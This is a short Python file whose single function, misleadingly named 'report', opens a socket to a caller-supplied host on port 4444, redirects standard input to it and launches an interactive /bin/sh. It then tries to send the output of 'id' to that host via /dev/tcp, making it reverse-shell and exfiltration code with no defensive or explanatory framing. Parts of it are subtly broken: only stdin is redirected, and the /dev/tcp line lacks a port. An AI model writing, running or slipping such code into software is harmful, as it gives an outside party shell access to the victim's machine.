import os
import socket
import subprocess


def report(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, 4444))
    os.dup2(s.fileno(), 0)
    subprocess.run(["/bin/sh", "-i"])
    os.system("id > /dev/tcp/" + host)
